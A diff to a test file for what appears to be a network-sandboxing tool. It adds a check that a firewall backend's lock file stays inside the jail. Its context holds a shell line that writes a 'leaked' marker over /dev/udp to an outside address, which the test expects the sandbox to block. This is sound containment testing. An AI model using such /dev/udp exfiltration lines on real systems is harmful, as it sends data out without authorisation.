@@ -274,7 +274,9 @@ def test_every_firewall_backend_redirects(tmp_path: Path, backend: str, plain: U
         "exec 3<>/dev/udp/192.0.2.1/9 && echo leaked >&3"
     )
     env = {"BOUNDARY_FIREWALL": backend}
+    shm_before = set(os.listdir("/dev/shm"))
     r = boundary_run(tmp_path, *NS, *MAP, "--allow", "domain=plain.test", "--", "sh", "-c", script, env=env)
+    assert set(os.listdir("/dev/shm")) <= shm_before  # iptables-legacy's lock file stayed inside the jail
     assert r.returncode != 0  # the UDP write failed
     assert "198.18." in r.stdout
     assert "hello from /fw" in r.stdout, r.stderr
